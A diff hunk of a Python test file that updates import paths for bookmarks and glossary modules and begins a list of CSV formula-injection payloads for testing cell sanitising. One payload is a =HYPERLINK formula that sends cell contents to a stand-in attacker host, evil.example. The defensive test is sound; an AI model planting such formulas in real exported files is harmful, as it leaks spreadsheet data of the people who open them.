@@ -10,8 +10,8 @@ import pandas as pd
 import pytest
 
 from app.core.base.csv_safe import safe_cell, unquote_cell
-from app.core.bookmarks import Bookmarks
-from app.core.glossary import FeatureInfo, Glossary, load_glossary
+from app.core.review.bookmarks import Bookmarks
+from app.core.review.glossary import FeatureInfo, Glossary, load_glossary
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
